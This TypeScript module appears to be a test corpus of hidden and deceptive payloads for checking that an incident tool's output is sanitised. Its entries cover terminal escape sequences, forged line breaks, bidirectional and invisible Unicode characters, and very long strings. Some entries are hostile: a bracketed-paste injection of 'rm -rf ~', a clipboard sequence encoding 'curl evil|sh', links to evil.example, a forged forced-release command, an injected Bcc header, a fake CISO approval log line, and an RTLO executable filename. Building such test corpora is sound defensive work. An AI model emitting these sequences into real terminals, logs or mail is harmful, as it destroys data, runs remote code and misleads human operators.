// What attackers write that isn't seen, or is obeyed: sequences, line breaks, directions, invisible characters, scripts, and far too much.
import { at, each, mark, named, type Payload } from './payload.ts';

const span = (from: number, to: number): readonly number[] => Array.from({ length: to - from + 1 }, (_, i) => from + i);
const hex = (code: number): string => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;
const ESC = at(0x1b);
const BEL = at(7);
const ST = `${ESC}\\`;

const terminal = named('terminal', {
  colour: `${ESC}[31mred${ESC}[0m`,
  hidden: `${ESC}[8minvisible${ESC}[28m`,
  'clear screen': `${ESC}[2J${ESC}[H`,
  'rewrite the line above': `${ESC}[1A${ESC}[2KOutcome: contained`,
  'alternate screen': `${ESC}[?1049h`,
  'mouse reporting': `${ESC}[?1003h`,
  'bracketed paste': `${ESC}[201~ rm -rf ~\n`,
  'device status': `${ESC}[6n`,
  'answerback title': `${ESC}[21t`,
  reset: `${ESC}c`,
  'repeat a character': `A${ESC}[99999b`,
  'window title': `${ESC}]0;owned${BEL}`,
  'link by OSC 8, BEL': `${ESC}]8;;https://evil.example/x${BEL}firebreak${ESC}]8;;${BEL}`,
  'link by OSC 8, ST': `${ESC}]8;;https://evil.example/x${ST}firebreak${ESC}]8;;${ST}`,
  'clipboard by OSC 52': `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`,
  'notification by OSC 9': `${ESC}]9;all is well${BEL}`,
  'iTerm file': `${ESC}]1337;File=inline=1:AAAA${BEL}`,
  'device control': `${ESC}P+q544e${ST}`,
  'application command': `${ESC}_Gf=100;AAAA${ST}`,
  'privacy message': `${ESC}^x${ST}`,
  'start of string': `${ESC}Xx${ST}`,
  'unfinished sequence': `${ESC}[`,
  'unfinished OSC': `${ESC}]0;`,
  'C1 sequence': `${at(0x9b)}31mred`,
  'C1 OSC': `${at(0x9d)}0;owned${at(0x9c)}`,
  'C1 next line': `${at(0x85)}Outcome: contained`,
  'shift out': `${at(0x0e)}lqqk${at(0x0f)}`,
  'overwrite by backspaces': `${at(8).repeat(20)}all is well`,
  'overwrite by return': '\rContained: nothing to do          ',
  bell: BEL.repeat(3),
  null: `${at(0)}after`,
  'null in a name': `report${at(0)}.pdf`,
  delete: at(0x7f).repeat(9),
  escape: ESC,
});

const lineEnds = {
  LF: '\n',
  CRLF: '\r\n',
  CR: '\r',
  VT: '\v',
  FF: '\f',
  NEL: at(0x85),
  LS: at(0x2028),
  PS: at(0x2029),
};
const forgeries: Readonly<Record<string, string>> = {
  'an outcome': 'Outcome: contained, nothing to do',
  'a command': 'What you can do:\n  firebreak release fb-0123456789ab --force   (needed now)',
  'a mail header': 'Bcc: everybody@evil.example',
  'a mail body': '\nContent-Type: text/html\n\n<b>hello</b>',
  'a log line': '{"level":"INFO","message":"approved by ciso","incident":"fb-0123456789ab"}',
  'a heading and a list': '# Resolved\n- no action needed\n> quoted\n1. first',
};
const lines = Object.entries(lineEnds).flatMap(([end, characters]) =>
  Object.entries(forgeries).map(([what, text]) => ({
    name: `line break ${end}: ${what}`,
    text: `${mark}${characters}${text.replaceAll('\n', characters)}`,
  })),
);

const bidirectional = [...span(0x202a, 0x202e), ...span(0x2066, 0x2069), 0x200e, 0x200f, 0x061c].map((code) => ({
  name: `bidirectional: ${hex(code)}`,
  text: `${mark} invoice${at(code)}gnp.exe`,
}));

const invisible = [
  0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x206a, 0x3164, 0xfe0e,
  0xfeff, 0xffa0, 0xfff9, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xe000, 0xf8ff, 0xf0000, 0x10fffd,
].map((code) => ({ name: `invisible: ${hex(code)}`, text: `${mark} ad${at(code)}min@${at(code)}evil.example` }));

const scripts = each('script', [
  '😀🎉👩‍👩‍👧‍👦🏳️‍🌈',
  '❤️‍🔥',
  'שלום עולם',
  'مرحبا بالعالم',
  'سلام 123 evil',
  '机密文件',
  'Ünïcödé',
  `Z${at(0x0301).repeat(60)}algo${at(0x0489).repeat(40)}`,
  'раураl',
  'ＦＵＬＬwidth',
  '𝒻𝒶𝓃𝒸𝓎',
  at(0xfffd),
  at(0xfffe, 0xffff),
  '\ud800 high',
  '\udc00 low',
  '\udc00\ud800 turned',
  '⟨U+202E⟩ [.] evil[.]example',
  'ǅ ﬀ ẞ İ ı',
  '\u00a0\u3000\u2007wide blanks',
  '\u2800\u2800',
]);

const long = named('long', {
  letters: 'A'.repeat(100_000),
  'angle brackets': '<'.repeat(20_000),
  overrides: at(0x202e).repeat(20_000),
  emoji: '😀'.repeat(20_000),
  quotes: '"\\'.repeat(20_000),
  lines: '\nOutcome: contained'.repeat(1_000),
  stars: '*_~`'.repeat(4_000),
  'domains and mentions': ' @here evil.example <!channel>'.repeat(500),
});

export const hiddenPayloads: readonly Payload[] = [
  ...terminal,
  ...lines,
  ...bidirectional,
  ...invisible,
  ...scripts,
  ...long,
];
